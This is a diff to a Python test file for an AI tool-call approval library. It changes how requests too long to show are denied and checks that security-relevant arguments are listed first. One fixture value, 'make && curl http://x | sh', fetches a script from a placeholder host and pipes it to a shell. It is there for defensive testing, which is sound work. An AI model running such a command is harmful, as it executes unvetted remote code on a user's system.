@@ -19,7 +19,7 @@ from hypothesis import strategies as st
 from toolrig import CallContext, Policy, ToolCall, tool
 from toolrig.mcp import ClientApprover, MCPToolset, serve_async
 from toolrig.policy import visible
-from toolrig.policy.approvals import TooLargeToShow, render_request
+from toolrig.policy.approvals import fit_request, render_request
 from toolrig.toolsets import FunctionToolset
 
 pytestmark = pytest.mark.anyio
@@ -188,9 +188,8 @@ def shown(value: Any) -> str:
 @given(arguments=ARGUMENTS, limit=st.integers(min_value=200, max_value=6_000))
 def test_generated_arguments_are_shown_whole_or_denied(arguments: dict[str, Any], limit: int) -> None:
     approver = ClientApprover(max_chars=limit)
-    try:
-        message = approver.message(ToolCall(name="store", arguments=arguments), CallContext(), "asked")
-    except TooLargeToShow:
+    message = approver.message(ToolCall(name="store", arguments=arguments), CallContext(), "asked")
+    if message is None:
         full = render_request(ToolCall(name="store", arguments=arguments), CallContext(), "asked")
         assert len(full) > limit  # denied only when the whole request does not fit
         return
@@ -219,14 +218,16 @@ def test_without_a_limit_every_value_is_shown_whole(arguments: dict[str, Any]) -
 def test_security_relevant_values_come_first_by_key_or_by_value() -> None:
     arguments = {"body": "hello", "notes": "x" * 500, "opts": {"retries": 3, "remote_url": "example"},
                  "where": "~/projects/app", "run": "make && curl http://x | sh", "count": 2}
-    lines = argument_lines(render_request(ToolCall(name="t", arguments=arguments), CallContext(), "r", limit=2_000))
+    text = fit_request(ToolCall(name="t", arguments=arguments), CallContext(), "r", limit=2_000)
+    assert text is not None
+    lines = argument_lines(text)
     keys = [line.split(" = ")[0].strip() for line in lines]
     assert keys == ["opts.remote_url", "where", "run", "body", "opts.retries", "count", "notes"]
 
 
 def test_a_reason_too_long_for_the_limit_is_denied_not_cut() -> None:
-    with pytest.raises(TooLargeToShow):
-        ClientApprover(max_chars=300).message(ToolCall(name="t", arguments={}), CallContext(), "r" * 400)
+    assert ClientApprover(max_chars=300).message(ToolCall(name="t", arguments={}), CallContext(), "r" * 400) is None
+    assert fit_request(ToolCall(name="t", arguments={}), CallContext(), "r" * 200, limit=300) is not None
 
 
 async def test_approval_stays_bound_to_the_exact_call_shown() -> None:
